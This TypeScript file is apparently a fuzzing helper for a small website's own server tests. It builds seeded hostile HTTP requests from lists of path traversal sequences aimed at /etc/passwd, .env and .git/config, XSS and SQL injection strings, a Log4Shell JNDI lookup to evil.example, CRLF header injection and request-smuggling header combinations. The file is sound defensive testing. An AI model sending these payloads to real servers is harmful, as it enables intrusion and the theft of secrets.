/** Makes requests as attackers, scanners and broken programs send them, from a seed. */
import type { Random } from './random.ts';

const methods = [
  'GET',
  'GET',
  'GET',
  'GET',
  'HEAD',
  'POST',
  'PUT',
  'DELETE',
  'OPTIONS',
  'PATCH',
  'TRACE',
  'CONNECT',
  'PROPFIND',
  'get',
  'COOK',
  'G\u0000T',
  '',
] as const;

/** Where there is something to be had. */
const real = [
  '/',
  '/menu',
  '/menu/',
  '/menu/index.html',
  '/blog/the-soul-of-chettinad',
  '/api/faq',
  '/api/setting',
  '/healthz',
  '/menu.json',
  '/assets/app-4f3a.js',
  '/pictures/dosa.3f2a1b-480.jpg',
] as const;

const targets = [
  ...real,
  '/blog/x',
  '/api',
  '/api/',
  '/index.html.br',
  '/.git/config',
  '/.env',
  '/.secret',
  '/_headers',
  '/404.html',
  '/wp-login.php',
  '/cgi-bin/test.cgi',
  '/etc/passwd',
  '/proc/self/environ',
  '/C:/Windows/win.ini',
  '/private.txt',
  '/api.json',
  '/csp.json',
  '/__proto__',
  '/constructor',
  '/hasOwnProperty',
  '/menu;x=1',
  '/menu:80',
  '*',
  '',
  'menu',
  '//',
  '///menu',
  '//evil.example/%2f..',
  '/\\evil.example',
  '/~root',
  '/?',
  '/#',
  '/menu?#',
  '/%',
  '/a%20b',
  'http://[::1',
  'http://evil.example/menu',
  'https://evil.example:99999/',
  'file:///etc/passwd',
  'javascript:alert(1)',
] as const;

const climbs = [
  '../',
  '..\\',
  '%2e%2e/',
  '%2e%2e%2f',
  '..%2f',
  '..%5c',
  '%252e%252e%252f',
  '..%c0%af',
  '..%ef%bc%8f',
  '....//',
  '.%00./',
  '..;/',
  './',
  '\u2025/',
] as const;
const places = [
  'private.txt',
  'api.json',
  'client/index.html',
  'etc/passwd',
  'package.json',
  'server/node.ts',
  '.env',
  '',
] as const;
const odd = [
  '%00',
  '%0d%0aset-cookie:x=1',
  '%ff',
  '%c3%28',
  '%ed%a0%80',
  '%f8%88%80%80%80',
  '%u002e',
  '%%',
  '\u0000',
  '\t',
  ' ',
  '"><script>alert(1)</script>',
  "' or 1=1--",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\u202e',
  'வளவு',
  '%E0%AE%B5',
] as const;

const numbers = [
  '0',
  '-1',
  '1',
  '5',
  '299999',
  '300000',
  '4294967296',
  '99999999999999999999',
  'NaN',
  '1e3',
  '0x10',
  '',
  ' ',
  '+1',
] as const;
const codings = [
  'br',
  'gzip',
  'x-gzip',
  'deflate',
  'zstd',
  'identity',
  '*',
  '',
  'br;q=',
  'gzip;q=1.5',
  'br;q=0.000',
  'identity;q=0',
  '*;q=0',
  ';',
  '__proto__',
  'constructor',
] as const;
const hosts = [
  'valavu.example',
  'localhost',
  '127.0.0.1',
  'evil.example:80',
  '',
  'a b',
  '[::1]',
  '[::1',
  'x'.repeat(300),
  '..',
  'valavu.example\u0000',
  'user@valavu.example',
  'வளவு.example',
] as const;

const list = (random: Random, count: number, one: () => string): string =>
  Array.from({ length: random.below(count) + 1 }, one).join(random.of([',', ', ', ' ,', ',,']));

const path = (random: Random): string => {
  const base = random.of(targets);
  return random.of<() => string>([
    () => base,
    () => base + random.of(odd),
    () => `${base}?${random.of(odd)}=${random.of(numbers)}`,
    () => `${base}/${random.of(climbs).repeat(random.below(12) + 1)}${random.of(places)}`,
    () => `/${random.of(climbs).repeat(random.below(6) + 1)}${random.of(places)}`,
    () => `/${'a'.repeat(random.of([100, 2000, 4095, 4096, 5000, 15_000, 40_000]))}`,
    () =>
      base
        .split('')
        .map((char) => (random.chance(0.4) ? `%${char.charCodeAt(0).toString(16).padStart(2, '0')}` : char))
        .join(''),
    () =>
      base
        .split('')
        .map((char) => (random.chance(0.2) ? String.fromCodePoint(random.below(0x30_00)) : char))
        .join(''),
  ])();
};

/** Headers that are well formed, whatever they say. */
const politeHeader = (random: Random): string =>
  random.of<() => string>([
    () =>
      `Range: ${random.of(['bytes', 'Bytes', 'lines'])}=${list(random, 3, () => `${random.of(numbers)}-${random.of(numbers)}`)}`,
    () => `Range: bytes=${random.of(['', `${random.below(400_000)}`])}-${random.of(['', `${random.below(400_000)}`])}`,
    () => `Accept-Encoding: ${list(random, 40, () => random.of(codings))}`,
    () => 'If-None-Match: *',
    () => `If-None-Match: ${list(random, 200, () => random.of(['*', '"x"', 'W/"x"', '"', 'W/', '']))}`,
    () => `If-Match: ${random.of(['*', '"x"', '', '"'])}`,
    () => `If-Range: ${random.of(['"x"', 'Sat, 01 Feb 2025 00:00:00 GMT', '', 'W/"x"'])}`,
    () => `If-Modified-Since: ${random.of(['Sat, 01 Feb 2099 00:00:00 GMT', 'yesterday', '-1'])}`,
    () => `X-Forwarded-For: ${list(random, 50, () => random.of(['127.0.0.1', '::1', "' or 1=1", 'x'.repeat(100)]))}`,
    () => `X-Forwarded-Host: ${random.of(['evil.example', '', 'a b'])}`,
    () => `X-HTTP-Method-Override: ${random.of(['DELETE', 'TRACE'])}`,
    () => `Origin: ${random.of(['null', 'https://evil.example', 'file://'])}`,
    () => `Upgrade: ${random.of(['websocket', 'h2c', 'TLS/1.0'])}`,
    () => `X-Long: ${'x'.repeat(random.of([1000, 8000]))}`,
    () => Array.from({ length: random.of([50, 150]) }, (_, n) => `X-${n}: ${n}`).join('\r\n'),
  ])();

/** Headers that break the rules of HTTP or of their own syntax. */
const wildHeader = (random: Random): string =>
  random.of<() => string>([
    () => politeHeader(random),
    () => `Content-Length: ${random.of(numbers)}`,
    () =>
      `Transfer-Encoding: ${random.of(['chunked', 'gzip, chunked', 'chunked, identity', 'xchunked', ' chunked', 'chunked\u000b'])}`,
    () => `Expect: ${random.of(['100-continue', '200-ok', ''])}`,
    () => `Connection: ${random.of(['close', 'keep-alive', 'upgrade', 'content-length', 'x, y, z'])}`,
    () => `Cookie: ${random.of(odd).repeat(random.below(50))}`,
    () => `X-Long: ${'x'.repeat(20_000)}`,
    () => Array.from({ length: 500 }, (_, n) => `X-${n}: ${n}`).join('\r\n'),
    () => `${random.of(odd)}: ${random.of(odd)}`,
    () => `X-Bytes: ${String.fromCodePoint(...Array.from({ length: 8 }, () => random.below(256)))}`,
    () => ' folded: line',
    () => 'no colon at all',
  ])();

const body = (random: Random): string =>
  random.of<() => string>([
    () => '',
    () => '{}',
    () => '{"a":'.repeat(1000),
    () => '0\r\n\r\n',
    () => `${random.of(['5', 'ffffffff', '-1', 'zz', '5;x=y'])}\r\nhello\r\n${random.of(['0\r\n\r\n', '', '0'])}`,
    () => 'x'.repeat(random.of([10, 16_385, 100_000])),
    () => `GET /private.txt HTTP/1.1\r\nHost: x\r\n\r\n`,
  ])();

const assemble = (lines: readonly string[], end: string, content: string): Buffer =>
  Buffer.from(`${lines.join(end)}${end}${end}${content}`);

/** A request that HTTP has nothing against, so that it reaches the handlers. */
const polite = (random: Random): Buffer => {
  const content = random.chance(0.2) ? '{"a":'.repeat(random.of([1, 1000, 5000])) : '';
  const target = (random.chance(0.4) ? random.of(real) : path(random)).replaceAll(/[^\u0021-\u007e]/g, (char) =>
    random.chance(0.5) ? '' : encodeURIComponent(char.toWellFormed()),
  );
  return assemble(
    [
      `${random.chance(0.7) ? 'GET' : random.of(['HEAD', 'POST', 'PUT', 'OPTIONS', 'DELETE', 'TRACE'])} ${target.startsWith('/') ? target : `/${target}`} HTTP/1.1`,
      'Host: valavu.example',
      ...(content ? [`Content-Length: ${content.length}`] : []),
      ...Array.from({ length: random.below(4) }, () => politeHeader(random)),
    ],
    '\r\n',
    content,
  );
};

/** A request wrong in any way; some are cut short or have bytes changed. */
const wild = (random: Random): Buffer => {
  const bytes = assemble(
    [
      `${random.of(methods)} ${path(random)} ${random.of(['HTTP/1.1', 'HTTP/1.1', 'HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', 'HTTP/1.1 ', ''])}`,
      ...(random.chance(0.9) ? [`Host: ${random.of(hosts)}`] : []),
      ...Array.from({ length: random.below(4) }, () => wildHeader(random)),
    ],
    random.chance(0.95) ? '\r\n' : random.of(['\n', '\r', '\r\n\r\n']),
    random.chance(0.3) ? body(random) : '',
  );
  if (random.chance(0.7) || bytes.byteLength === 0) return bytes;
  if (random.chance(0.5)) return bytes.subarray(0, random.below(bytes.byteLength));
  for (let n = random.below(8); n >= 0; n -= 1) bytes[random.below(bytes.byteLength)] = random.below(256);
  return bytes;
};

/** The bytes of one request: two in three follow HTTP and are hostile in what they say, the others in how. */
export const hostileRequest = (random: Random): Buffer => (random.chance(0.67) ? polite(random) : wild(random));
